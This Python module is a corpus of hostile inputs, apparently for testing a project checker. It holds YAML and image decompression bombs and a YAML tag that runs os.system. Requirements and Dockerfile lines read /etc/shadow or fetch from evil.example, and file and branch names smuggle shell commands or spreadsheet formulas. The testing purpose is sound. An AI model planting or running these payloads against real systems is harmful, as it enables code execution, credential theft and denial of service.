"""Files and names that hurt who reads them: bombs, pipes, odd names."""

from __future__ import annotations

import base64
import json
import struct
import zlib

from checker.model import Blocked, Failed, Passed, ToDo
from tests.hostile.corpus.model import MARK, Expected, fails, hostile, passes
from tests.mutants.model import Remove, Shell, Write

_ALIASES = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} [{','.join([f'*{chr(97 + n)}'] * 9)}]\n" for n in range(12)
)
_MERGES = "a: &a {x: 1}\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} {{<<: [{','.join([f'*{chr(97 + n)}'] * 9)}]}}\n" for n in range(12)
)


def _picture(side: int = 30_000) -> str:
    """A picture of *side* × *side* dots, in a few kilobytes."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
    rows = zlib.compress(bytes((side // 8 + 1) * 2000), 9)
    return base64.b64encode(b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", rows) + chunk(b"IEND", b"")).decode()


_PICTURES = json.dumps(
    {
        "cells": [
            {
                "cell_type": "code", "id": "a", "metadata": {}, "execution_count": 1, "source": "print(1)",
                "outputs": [
                    {"output_type": "display_data", "metadata": {}, "data": {"image/png": _picture(), "text/html": "<script>"}},
                    {"output_type": "stream", "name": "stdout", "text": ["x" * 20_000_000]},
                ],
            }
        ],
        "metadata": {"kernelspec": {"name": "evil; touch x", "argv": ["touch"]}, "widgets": [[[]]]},
        "nbformat": 4, "nbformat_minor": 5,
    }
)  # fmt: skip
_ANY = (Passed, Failed, ToDo)

CORPUS = (
    hostile(
        "a configuration that grows to 10 GB",
        Shell(f"cat > aliases <<'EOF'\n{_ALIASES}EOF\ncat aliases >> config.yaml; rm aliases"),
        traps=(28,),
        base="2.1",
        expected=(Expected(check="config-file", verdict=_ANY), Expected(check="config-followed", verdict=_ANY)),
        seconds=20,
    ),
    hostile(
        "a configuration that grows by merging",
        Write("config.yaml", _MERGES),
        traps=(28,),
        base="2.1",
        expected=(fails("main-runs"), Expected(check="config-file", verdict=_ANY)),
        seconds=10,
    ),
    hostile(
        "an environment that grows and builds objects",
        Write(
            "environment.yml",
            f"name: !!python/object/apply:os.system ['touch /tmp/{MARK}']\n{_ALIASES}dependencies: *m\n",
        ),
        traps=(28,),
        base="2.2",
        expected=(fails("environment-file"), Expected(check="environment-minimal", verdict=(Blocked,))),
        seconds=20,
    ),
    hostile(
        "an environment of 5,000 packages",
        Shell("python3 -c \"print('\\n'.join(f'evil-package-{n}==1.{n}' for n in range(5000)))\" >> requirements.txt"),
        traps=(28,),
        base="2.2",
        expected=(passes("environment-complete"),),
        seconds=30,
    ),
    hostile(
        "requirements that include themselves and the password file",
        Shell(
            "printf '%s\\n' '-r requirements.txt' '-r /etc/passwd' '-r ../../../../etc/shadow' '-c @HOME@/grades.csv' "
            "'-e git+ext::sh -c touch%20x' '--index-url=https://evil.example' 'x @ file:///etc/passwd' "
            "'a[b,c,d]>=1,<2;python_version<\"$(id)\"' >> requirements.txt"
        ),
        traps=(28, 13),
        base="2.2",
        expected=(Expected(check="environment-complete", verdict=(Passed, Failed, Blocked)),),
        never_says=("root:x:0",),
    ),
    hostile(
        "pictures that are bombs in a notebook",
        Write("notebooks/titanic.ipynb", _PICTURES),
        traps=(28,),
        expected=(passes("notebook-runs"),),
        seconds=20,
    ),
    hostile(
        "a notebook of 500 MB",
        Shell("truncate -s 500M notebooks/titanic.ipynb"),
        traps=(28,),
        expected=(fails("notebook-runs", "too large"),),
        seconds=5,
    ),
    hostile(
        "pipes in the place of files",
        *(Remove(path) for path in ("config.yaml", "requirements.txt", "notebooks/titanic.ipynb", "Dockerfile")),
        Shell("mkfifo config.yaml requirements.txt notebooks/titanic.ipynb Dockerfile data.csv .checker.yml.pipe"),
        Shell("rm -f .checker.yml; mkfifo .checker.yml src/pipe.py"),
        base="2.3",
        expected=(fails("config-file"),),
        whole=True,
        seconds=10,
        within=120,
    ),
    hostile(
        "ignore rules that take for ever",
        Shell(
            "python3 -c \"print('\\n'.join(['*a' * 30 + 'b', '**/' * 40 + '*' * 40 + 'b', '[' * 1000, '\\\\\\\\' * 999]"
            " + [f'/x{n}*y*z/**' for n in range(20000)]))\" >> .gitignore"
        ),
        traps=(28,),
        base="1.8",
        expected=(Expected(check="gitignore-python", verdict=_ANY), Expected(check="clean-tree", verdict=_ANY)),
        within=60,
    ),
    hostile(
        "names that are options, commands and pictures of others",
        *(
            Write(name, "x = 1\n")
            for name in (
                "-rf.py",
                "$(touch x).py",
                "`id`.py",
                "a\nb.py",
                "\u202egnp.py",
                "CON.py",
                "n" * 250 + ".py",
                "=cmd|' /C calc'!A1.py",
                "::error::x.py",
                "<script>.py",
                "\x1b[2J.py",
                "--help.py",
                "a;b&c|d.py",
                "src/--rcfile=evil.py",
                "src/%s%n{0}.py",
                "src/'\".py",
                "src/src/src.py",
                "data/raw/=1+1.csv",
            )
        ),
        Shell("touch \"$(printf 'caf\\351.py')\" \"$(printf 'src/\\377\\376.py')\""),
        Shell("git add -A && git commit -q -m 'Names'"),
        Shell("git checkout -q -b '=cmd|calc!A1'"),
        Shell("git update-ref 'refs/heads/--upload-pack=touch-x' HEAD"),
        Shell(
            "git -c user.name='=HYPERLINK(1)::error::x' -c user.email='<script>@x' commit -q --allow-empty "
            "--file=<(python3 -c \"print('\\x1b[2J::error::x' * 700000)\")"
        ),
        traps=(29, 22),
        expected=(passes("main-runs"), passes("branch")),
        never_says=("\x1b[2J", "\n::error"),
        whole=True,
        seconds=30,
        within=250,
    ),
    hostile(
        "a Dockerfile that asks for everything",
        Write(
            "Dockerfile",
            "# syntax=evil.example/frontend:latest\n"
            "FROM registry.internal.grader:5000/base AS a\n"
            "RUN --mount=type=bind,source=/,target=/host --security=insecure --network=host cat /host/etc/shadow\n"
            "RUN --mount=type=cache,id=other,target=/cache echo evil > /cache/x\n"
            "RUN --mount=type=secret,id=x --mount=type=ssh true\n"
            "RUN while true; do :; done && dd if=/dev/zero of=/x bs=1G count=50\n"
            "COPY --from=evil/image:latest /etc/shadow /\n"
            "ADD https://evil.example/x /\n"
            "FROM a\nONBUILD RUN evil\nHEALTHCHECK CMD evil\n"
            + "RUN a \\\n" * 20_000
            + "b\n"
            + "ENV "
            + "A=$A$A$A$A$A$A$A$A " * 1000
            + "\n"
            'CMD ["python", "main.py"' + ', "x"' * 10_000 + "]\n",
        ),
        traps=(32,),
        base="2.3",
        expected=(fails("dockerfile"),),
        seconds=10,
    ),
)
